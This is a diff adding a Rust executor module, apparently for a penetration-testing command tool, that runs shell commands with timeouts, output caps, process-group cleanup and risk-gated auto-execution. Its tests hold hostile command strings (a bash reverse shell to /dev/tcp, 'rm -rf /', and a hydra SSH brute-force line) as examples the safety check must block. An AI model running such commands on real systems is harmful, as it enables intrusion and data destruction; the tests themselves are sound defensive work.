@@ -0,0 +1,622 @@
+use crate::context_manager::extract_placeholders;
+use crate::safety::{classify_command, RiskLevel};
+use anyhow::{Context, Result};
+use log::{debug, info, warn};
+use regex::Regex;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+use std::sync::Arc;
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
+use tokio::io::{AsyncBufReadExt, AsyncRead, AsyncReadExt, BufReader};
+use tokio::process::{Child, Command};
+use tokio::sync::Notify;
+use tokio::task::JoinHandle;
+use tokio::time::timeout;
+use tokio_util::sync::CancellationToken;
+
+// Constants for command execution
+const DEFAULT_TIMEOUT_SECS: u64 = 300;
+const MAX_LOG_NAME_CHARS: usize = 60;
+const STDERR_DRAIN_TIMEOUT: Duration = Duration::from_secs(1);
+const DEFAULT_MAX_OUTPUT_BYTES: usize = 10 * 1024 * 1024;
+const READ_CHUNK_BYTES: usize = 8192;
+
+/// Configuration for running generated commands
+#[derive(Debug, Clone)]
+pub struct ExecutorConfig {
+    /// Wall-clock limit after which the command is killed
+    pub timeout: Duration,
+    /// Directory to save each command's output to, if any
+    pub capture_dir: Option<PathBuf>,
+    /// Stop the command as soon as a line of its stdout matches this pattern
+    pub stop_pattern: Option<Regex>,
+    /// Run commands classified as Safe for real without asking first (off by default)
+    pub auto_exec_safe: bool,
+    /// Most bytes kept from each of stdout and stderr; a command that writes more is
+    /// killed and its output marked truncated
+    pub max_output_bytes: usize,
+    /// Never run anything: `execute` refuses and nothing auto-executes (for demos and training)
+    pub read_only: bool,
+}
+
+impl Default for ExecutorConfig {
+    fn default() -> Self {
+        Self {
+            timeout: Duration::from_secs(DEFAULT_TIMEOUT_SECS),
+            capture_dir: None,
+            stop_pattern: None,
+            auto_exec_safe: false,
+            max_output_bytes: DEFAULT_MAX_OUTPUT_BYTES,
+            read_only: false,
+        }
+    }
+}
+
+impl ExecutorConfig {
+    /// Whether `command` should run straight away, skipping the menu
+    ///
+    /// Only with `auto_exec_safe`, and only for Safe commands with no unfilled
+    /// placeholders; Caution and Destructive commands always need confirmation.
+    pub fn auto_executes(&self, command: &str) -> bool {
+        !self.read_only
+            && self.auto_exec_safe
+            && classify_command(command) == RiskLevel::Safe
+            && check_placeholders(command).is_ok()
+    }
+
+    /// Run a command, stopping early on `stop_pattern` and saving its output to
+    /// `capture_dir` when configured
+    ///
+    /// Commands that still contain `[name]` placeholders are refused, as is everything
+    /// in read-only mode.
+    pub async fn execute(&self, command: &str) -> Result<CommandOutput> {
+        if self.read_only {
+            anyhow::bail!("Execution is disabled in read-only mode");
+        }
+        check_placeholders(command)?;
+        let mut output = match &self.stop_pattern {
+            Some(pattern) => execute_until(command, pattern, self.timeout, self.max_output_bytes).await?,
+            None => execute_command_capped(command, self.timeout, self.max_output_bytes).await?,
+        };
+        if let Some(dir) = &self.capture_dir {
+            save_log(command, dir, &mut output);
+        }
+        Ok(output)
+    }
+}
+
+/// Captured result of running a shell command
+#[derive(Debug, Clone, Default)]
+pub struct CommandOutput {
+    pub stdout: String,
+    pub stderr: String,
+    /// Exit code, or None if the process was killed by a signal or timed out
+    pub exit_code: Option<i32>,
+    /// True if the command was killed for exceeding its timeout
+    pub timed_out: bool,
+    /// File the output was saved to, if any
+    pub log_path: Option<PathBuf>,
+    /// True if the command was stopped because its output matched a stop pattern
+    pub stopped_on_match: bool,
+    /// True if the command was killed for writing more than the output limit; only the
+    /// output up to the limit was kept
+    pub truncated: bool,
+}
+
+impl CommandOutput {
+    /// Returns true if the command exited with status 0
+    pub fn success(&self) -> bool {
+        self.exit_code == Some(0)
+    }
+
+    /// Stdout followed by stderr, as fed to the interpreter
+    pub fn combined(&self) -> String {
+        match (self.stdout.trim_end().is_empty(), self.stderr.trim_end().is_empty()) {
+            (_, true) => self.stdout.clone(),
+            (true, false) => self.stderr.clone(),
+            (false, false) => format!("{}\n{}", self.stdout.trim_end(), self.stderr),
+        }
+    }
+}
+
+/// Fail if a command still contains unresolved `[name]` placeholders
+///
+/// Running a literal `[target]` would fail confusingly or hit the wrong host.
+pub fn check_placeholders(command: &str) -> Result<()> {
+    let names = extract_placeholders(command);
+    if names.is_empty() {
+        return Ok(());
+    }
+    let list: Vec<String> = names.iter().map(|name| format!("[{}]", name)).collect();
+    anyhow::bail!("The command still contains placeholders: {}. Fill them in before running it (e.g. set {}=<value>)", list.join(", "), names[0])
+}
+
+/// Run a command through `sh -c`, killing it if it exceeds `limit`
+///
+/// Output is capped at the default limit; see [`execute_command_capped`].
+pub async fn execute_command(command: &str, limit: Duration) -> Result<CommandOutput> {
+    execute_command_capped(command, limit, DEFAULT_MAX_OUTPUT_BYTES).await
+}
+
+/// Run a command through `sh -c`, killing it if it exceeds `limit` or writes more than
+/// `max_output_bytes` to stdout or stderr
+///
+/// Output written before a timeout or the cap is kept.
+pub async fn execute_command_capped(command: &str, limit: Duration, max_output_bytes: usize) -> Result<CommandOutput> {
+    debug!("Executing command: {}", command);
+    
+    let mut child = spawn_shell(command)?;
+    let mut group = ProcessGroup::of(&child);
+    let stdout = child.stdout.take().context("Failed to capture command output")?;
+    let stderr = child.stderr.take().context("Failed to capture command errors")?;
+    
+    // Both streams are read concurrently; the first to reach the cap signals that the command must stop
+    let cap_reached = Arc::new(Notify::new());
+    let stop_reading = CancellationToken::new();
+    let stdout_task = tokio::spawn(read_capped(stdout, max_output_bytes, cap_reached.clone(), stop_reading.clone()));
+    let stderr_task = tokio::spawn(read_capped(stderr, max_output_bytes, cap_reached.clone(), stop_reading.clone()));
+    
+    let run = async {
+        tokio::select! {
+            status = child.wait() => status.map(Some).context("Failed to wait for command"),
+            _ = cap_reached.notified() => Ok(None),
+        }
+    };
+    
+    let mut output = CommandOutput::default();
+    match timeout(limit, run).await {
+        Ok(Ok(Some(status))) => {
+            output.exit_code = status.code();
+            // Anything it left running in the background keeps going
+            group.release();
+        }
+        Ok(Err(e)) => return Err(e),
+        finished => {
+            match finished {
+                Err(_) => {
+                    warn!("Command timed out after {}s: {}", limit.as_secs(), command);
+                    output.timed_out = true;
+                }
+                _ => warn!("Command wrote more than {} bytes, stopping it: {}", max_output_bytes, command),
+            }
+            group.kill();
+            let _ = child.kill().await;
+        }
+    }
+    // Don't wait on pipes a background process is still holding open
+    let (stdout, stderr) = (drain(stdout_task, &stop_reading).await, drain(stderr_task, &stop_reading).await);
+    
+    output.truncated = stdout.truncated || stderr.truncated;
+    output.stdout = String::from_utf8_lossy(&stdout.bytes).into_owned();
+    output.stderr = String::from_utf8_lossy(&stderr.bytes).into_owned();
+    Ok(output)
+}
+
+/// Output read from one stream of a command
+#[derive(Debug, Default)]
+struct Captured {
+    bytes: Vec<u8>,
+    /// The stream had more than the cap to give
+    truncated: bool,
+}
+
+/// Read a stream to the end, until `max_bytes` have been read (notifying `cap_reached`)
+/// or until `stop` is cancelled
+async fn read_capped(mut reader: impl AsyncRead + Unpin, max_bytes: usize, cap_reached: Arc<Notify>, stop: CancellationToken) -> Captured {
+    let mut captured = Captured::default();
+    let mut chunk = [0u8; READ_CHUNK_BYTES];
+    loop {
+        let read = tokio::select! {
+            read = reader.read(&mut chunk) => read,
+            _ = stop.cancelled() => return captured,
+        };
+        let read = match read {
+            Ok(0) | Err(_) => return captured,
+            Ok(read) => read,
+        };
+        let room = max_bytes - captured.bytes.len();
+        if read > room {
+            captured.bytes.extend_from_slice(&chunk[..room]);
+            captured.truncated = true;
+            cap_reached.notify_one();
+            return captured;
+        }
+        captured.bytes.extend_from_slice(&chunk[..read]);
+    }
+}
+
+/// Output of a reader task once the command has exited or been stopped, cutting short
+/// readers kept open by a background process
+async fn drain(mut task: JoinHandle<Captured>, stop: &CancellationToken) -> Captured {
+    if let Ok(captured) = timeout(STDERR_DRAIN_TIMEOUT, &mut task).await {
+        return captured.unwrap_or_default();
+    }
+    stop.cancel();
+    task.await.unwrap_or_default()
+}
+
+/// Run a command until a line of its stdout matches `stop_pattern`, then kill it
+///
+/// The returned stdout includes the matching line. If nothing matches, the command
+/// runs to completion (or until `limit`) exactly as with [`execute_command`]. The
+/// command is also killed once its stdout passes `max_output_bytes`.
+pub async fn execute_until(command: &str, stop_pattern: &Regex, limit: Duration, max_output_bytes: usize) -> Result<CommandOutput> {
+    debug!("Executing command until /{}/: {}", stop_pattern, command);
+    
+    let mut child = spawn_shell(command)?;
+    let mut group = ProcessGroup::of(&child);
+    let stdout = child.stdout.take().context("Failed to capture command output")?;
+    let stderr = child.stderr.take().context("Failed to capture command errors")?;
+    
+    // Drain stderr concurrently so a chatty command can't block on a full pipe
+    let stop_reading = CancellationToken::new();
+    let stderr_task = tokio::spawn(read_capped(stderr, max_output_bytes, Arc::new(Notify::new()), stop_reading.clone()));
+    
+    let mut output = CommandOutput::default();
+    let run = async {
+        let mut lines = BufReader::new(stdout).lines();
+        let mut exited = None;
+        loop {
+            // Once the command has exited, a background process holding stdout open only
+            // gets a short grace period
+            let line = tokio::select! {
+                line = lines.next_line() => line.context("Failed to read command output")?,
+                status = child.wait(), if exited.is_none() => {
+                    exited = Some(status.context("Failed to wait for command")?);
+                    continue;
+                }
+                _ = tokio::time::sleep(STDERR_DRAIN_TIMEOUT), if exited.is_some() => break,
+            };
+            let Some(line) = line else { break };
+            output.stdout.push_str(&line);
+            output.stdout.push('\n');
+            if output.stdout.len() > max_output_bytes {
+                warn!("Command wrote more than {} bytes, stopping it", max_output_bytes);
+                let mut end = max_output_bytes;
+                while !output.stdout.is_char_boundary(end) {
+                    end -= 1;
+                }
+                output.stdout.truncate(end);
+                output.truncated = true;
+                group.kill();
+                child.kill().await.context("Failed to stop command")?;
+                break;
+            }
+            if stop_pattern.is_match(&line) {
+                info!("Output matched /{}/, stopping command", stop_pattern);
+                output.stopped_on_match = true;
+                group.kill();
+                child.kill().await.context("Failed to stop command")?;
+                break;
+            }
+        }
+        match exited {
+            Some(status) => Ok(status),
+            None => child.wait().await.context("Failed to wait for command"),
+        }
+    };
+    
+    match timeout(limit, run).await {
+        Ok(status) => {
+            output.exit_code = status?.code();
+            group.release();
+        }
+        Err(_) => {
+            warn!("Command timed out after {}s: {}", limit.as_secs(), command);
+            output.timed_out = true;
+            group.kill();
+            let _ = child.kill().await;
+        }
+    }
+    output.stderr = String::from_utf8_lossy(&drain(stderr_task, &stop_reading).await.bytes).into_owned();
+    
+    Ok(output)
+}
+
+/// Run a command and save its stdout/stderr to a timestamped log file in `dir`
+///
+/// The directory is created on demand. Failing to write the log doesn't fail the
+/// command: a warning is logged and `log_path` is left empty.
+pub async fn execute_command_to_file(command: &str, dir: &Path, limit: Duration) -> Result<CommandOutput> {
+    let mut output = execute_command(command, limit).await?;
+    save_log(command, dir, &mut output);
+    Ok(output)
+}
+
+/// Whether `target` answers a TCP connection on `port` within `timeout_after`
+///
+/// A refused connection counts as reachable, since something on the host replied.
+/// `false` doesn't prove the host is down: firewalls often drop probes silently.
+/// URL schemes, ports and paths are stripped; CIDR ranges can't be probed and count as reachable.
+pub async fn quick_reachability(target: &str, port: u16, timeout_after: Duration) -> bool {
+    let (host, is_url) = match target.split_once("://") {
+        Some((_, rest)) => (rest, true),
+        None => (target, false),
+    };
+    if host.contains('/') && !is_url {
+        return true;
+    }
+    let host = host.split('/').next().unwrap_or(host);
+    let host = match host.rsplit_once(':') {
+        Some((name, port)) if !name.contains(':') && port.parse::<u16>().is_ok() => name,
+        _ => host,
+    };
+    let host = host.trim_matches(|c| c == '[' || c == ']');
+    if host.is_empty() {
+        return true;
+    }
+    
+    match timeout(timeout_after, tokio::net::TcpStream::connect((host, port))).await {
+        Ok(Ok(_)) => true,
+        Ok(Err(e)) => {
+            debug!("Reachability check of {}:{} failed: {}", host, port, e);
+            e.kind() == std::io::ErrorKind::ConnectionRefused
+        }
+        Err(_) => {
+            debug!("Reachability check of {}:{} timed out", host, port);
+            false
+        }
+    }
+}
+
+/// Start `sh -c command` with piped output, killed if the handle is dropped
+///
+/// On Unix the command leads a new process group, so it and everything it starts can
+/// be stopped together with [`ProcessGroup`].
+fn spawn_shell(command: &str) -> Result<Child> {
+    let mut shell = Command::new("sh");
+    shell.arg("-c")
+        .arg(command)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .kill_on_drop(true);
+    #[cfg(unix)]
+    shell.process_group(0);
+    shell.spawn().context("Failed to start command")
+}
+
+/// The process group of a command started by `spawn_shell`
+///
+/// Killing `sh` alone leaves the tools it started running, so the whole group is
+/// killed instead. A group that is dropped before the command finished (for example
+/// because the caller was cancelled) is killed too.
+struct ProcessGroup(Option<u32>);
+
+impl ProcessGroup {
+    fn of(child: &Child) -> Self {
+        Self(child.id())
+    }
+
+    /// Kill every process in the group
+    fn kill(&mut self) {
+        let Some(_pgid) = self.0.take() else { return };
+        #[cfg(unix)]
+        // SAFETY: killpg only sends a signal; the group was created for this command
+        unsafe {
+            libc::killpg(_pgid as libc::pid_t, libc::SIGKILL);
+        }
+    }
+
+    /// The command exited by itself; leave anything it put in the background running
+    fn release(&mut self) {
+        self.0 = None;
+    }
+}
+
+impl Drop for ProcessGroup {
+    fn drop(&mut self) {
+        self.kill();
+    }
+}
+
+/// Save a command's output to `dir`, recording the path or warning on failure
+fn save_log(command: &str, dir: &Path, output: &mut CommandOutput) {
+    match write_log(command, dir, output) {
+        Ok(path) => {
+            debug!("Saved command output to {}", path.display());
+            output.log_path = Some(path);
+        }
+        Err(e) => warn!("Failed to save command output: {:#}", e),
+    }
+}
+
+/// Write a command's output to a new log file, returning its path
+fn write_log(command: &str, dir: &Path, output: &CommandOutput) -> Result<PathBuf> {
+    fs::create_dir_all(dir)
+        .with_context(|| format!("Failed to create {}", dir.display()))?;
+    
+    let timestamp = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_millis())
+        .unwrap_or_default();
+    let path = dir.join(format!("{}_{}.log", timestamp, sanitize_file_name(command)));
+    
+    let exit = match (output.timed_out, output.stopped_on_match, output.exit_code) {
+        (true, _, _) => "timed out".to_string(),
+        (false, true, _) => "stopped on match".to_string(),
+        (false, false, _) if output.truncated => "stopped at output limit".to_string(),
+        (false, false, Some(code)) => code.to_string(),
+        (false, false, None) => "killed".to_string(),
+    };
+    let content = format!(
+        "$ {}\n\n--- stdout ---\n{}\n--- stderr ---\n{}\n--- exit code: {} ---\n",
+        command,
+        output.stdout,
+        output.stderr,
+        exit
+    );
+    
+    fs::write(&path, content)
+        .with_context(|| format!("Failed to write {}", path.display()))?;
+    Ok(path)
+}
+
+/// Turn a command into a short, filesystem-safe name
+fn sanitize_file_name(command: &str) -> String {
+    let name: String = command
+        .chars()
+        .map(|c| if c.is_ascii_alphanumeric() || c == '-' || c == '.' { c } else { '_' })
+        .take(MAX_LOG_NAME_CHARS)
+        .collect();
+    name.trim_matches('_').to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    
+    #[tokio::test]
+    async fn test_quick_reachability() {
+        let limit = Duration::from_secs(2);
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        assert!(quick_reachability("127.0.0.1", port, limit).await);
+        assert!(quick_reachability(&format!("http://127.0.0.1:{}/admin", port), port, limit).await);
+        
+        // Refused means the host itself answered
+        drop(listener);
+        assert!(quick_reachability("127.0.0.1", port, limit).await);
+        
+        assert!(!quick_reachability("nonexistent.invalid", 80, limit).await);
+        assert!(quick_reachability("10.0.0.0/24", 80, limit).await);
+    }
+    
+    #[tokio::test]
+    async fn test_execute_command() {
+        let output = execute_command("echo hello; echo oops >&2; exit 3", Duration::from_secs(5)).await.unwrap();
+        assert_eq!(output.stdout, "hello\n");
+        assert_eq!(output.stderr, "oops\n");
+        assert_eq!(output.exit_code, Some(3));
+        
+        let output = execute_command("sleep 5", Duration::from_millis(100)).await.unwrap();
+        assert!(output.timed_out);
+    }
+    
+    #[tokio::test]
+    async fn test_unbounded_output_is_truncated() {
+        let start = std::time::Instant::now();
+        let executor = ExecutorConfig { max_output_bytes: 1000, ..ExecutorConfig::default() };
+        let output = executor.execute("yes 'lots of output'").await.unwrap();
+        assert!(output.truncated);
+        assert!(!output.timed_out);
+        assert_eq!(output.stdout.len(), 1000);
+        assert!(output.stdout.starts_with("lots of output\n"));
+        assert!(start.elapsed() < Duration::from_secs(5));
+        
+        let stop = Regex::new("never matches").unwrap();
+        let output = execute_until("yes", &stop, Duration::from_secs(10), 1000).await.unwrap();
+        assert!(output.truncated);
+        assert_eq!(output.stdout.len(), 1000);
+        
+        // Output under the limit is untouched
+        let output = execute_command_capped("echo fits", Duration::from_secs(5), 1000).await.unwrap();
+        assert!(!output.truncated);
+        assert_eq!(output.stdout, "fits\n");
+    }
+    
+    #[tokio::test]
+    async fn test_refuses_unresolved_placeholders() {
+        let err = ExecutorConfig::default().execute("nmap -p [ports] [target]").await.unwrap_err();
+        assert!(err.to_string().contains("[ports], [target]"));
+        
+        assert!(check_placeholders("nmap -p 22 10.0.0.1").is_ok());
+        assert!(ExecutorConfig::default().execute("echo done").await.unwrap().success());
+    }
+    
+    #[test]
+    fn test_auto_exec_only_safe_commands() {
+        let executor = ExecutorConfig { auto_exec_safe: true, ..ExecutorConfig::default() };
+        assert!(executor.auto_executes("nmap -sV 10.0.0.1"));
+        assert!(!executor.auto_executes("rm -rf /"));
+        assert!(!executor.auto_executes("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
+        assert!(!executor.auto_executes("hydra -l admin -P rockyou.txt ssh://10.0.0.1"));
+        assert!(!executor.auto_executes("nmap -sV [target]"));
+        
+        // Off by default
+        assert!(!ExecutorConfig::default().auto_executes("ls"));
+    }
+    
+    #[tokio::test]
+    async fn test_read_only_never_executes() {
+        let executor = ExecutorConfig { auto_exec_safe: true, read_only: true, ..ExecutorConfig::default() };
+        assert!(!executor.auto_executes("ls"));
+        let err = executor.execute("echo hi").await.unwrap_err();
+        assert!(err.to_string().contains("read-only"));
+    }
+    
+    #[tokio::test]
+    async fn test_execute_until() {
+        let stop = Regex::new(r"login:").unwrap();
+        
+        let start = std::time::Instant::now();
+        let command = "echo trying; echo '[22][ssh] host: 10.0.0.1 login: admin password: hunter2'; sleep 5; echo never";
+        let output = execute_until(command, &stop, Duration::from_secs(10), DEFAULT_MAX_OUTPUT_BYTES).await.unwrap();
+        assert!(output.stopped_on_match);
+        assert!(output.stdout.ends_with("password: hunter2\n"));
+        assert!(!output.stdout.contains("never"));
+        assert!(start.elapsed() < Duration::from_secs(3));
+        
+        // A configured executor stops the same way
+        let executor = ExecutorConfig { stop_pattern: Some(stop.clone()), ..ExecutorConfig::default() };
+        assert!(executor.execute("echo 'login: admin'; sleep 5").await.unwrap().stopped_on_match);
+        
+        // Without a match the command finishes normally
+        let output = execute_until("echo a; echo b >&2", &stop, Duration::from_secs(5), DEFAULT_MAX_OUTPUT_BYTES).await.unwrap();
+        assert!(!output.stopped_on_match);
+        assert_eq!(output.stdout, "a\n");
+        assert_eq!(output.stderr, "b\n");
+        assert_eq!(output.exit_code, Some(0));
+    }
+    
+    #[tokio::test]
+    async fn test_background_process_does_not_hold_output() {
+        let start = std::time::Instant::now();
+        let output = execute_command_capped("sleep 30 & echo done", Duration::from_secs(10), DEFAULT_MAX_OUTPUT_BYTES).await.unwrap();
+        assert_eq!(output.stdout, "done\n");
+        assert!(!output.timed_out);
+        
+        let stop = Regex::new("never").unwrap();
+        let output = execute_until("sleep 30 & echo done; echo oops >&2", &stop, Duration::from_secs(10), DEFAULT_MAX_OUTPUT_BYTES).await.unwrap();
+        assert_eq!(output.stdout, "done\n");
+        assert_eq!(output.stderr, "oops\n");
+        assert_eq!(output.exit_code, Some(0));
+        assert!(start.elapsed() < Duration::from_secs(8));
+    }
+    
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_timeout_kills_whole_process_group() {
+        let marker = std::env::temp_dir().join(format!("command_strike_pgid_{}", std::process::id()));
+        let command = format!("(sleep 1; touch {}); true", marker.display());
+        
+        let output = execute_command_capped(&command, Duration::from_millis(200), DEFAULT_MAX_OUTPUT_BYTES).await.unwrap();
+        assert!(output.timed_out);
+        
+        let stop = Regex::new("never").unwrap();
+        let output = execute_until(&command, &stop, Duration::from_millis(200), DEFAULT_MAX_OUTPUT_BYTES).await.unwrap();
+        assert!(output.timed_out);
+        
+        // The subshell would have created the marker had it outlived `sh`
+        tokio::time::sleep(Duration::from_millis(1500)).await;
+        assert!(!marker.exists());
+    }
+    
+    #[tokio::test]
+    async fn test_execute_command_to_file() {
+        let dir = std::env::temp_dir().join(format!("command_strike_test_{}", std::process::id()));
+        let output = execute_command_to_file("echo scan results", &dir, Duration::from_secs(5)).await.unwrap();
+        
+        let path = output.log_path.unwrap();
+        assert!(path.file_name().unwrap().to_string_lossy().ends_with("_echo_scan_results.log"));
+        assert!(fs::read_to_string(&path).unwrap().contains("scan results"));
+        
+        // The same log is written for every command run through a configured executor
+        let executor = ExecutorConfig { capture_dir: Some(dir.clone()), ..ExecutorConfig::default() };
+        let path = executor.execute("echo from the menu").await.unwrap().log_path.unwrap();
+        assert!(fs::read_to_string(&path).unwrap().contains("from the menu"));
+        
+        fs::remove_dir_all(dir).unwrap();
+    }
+}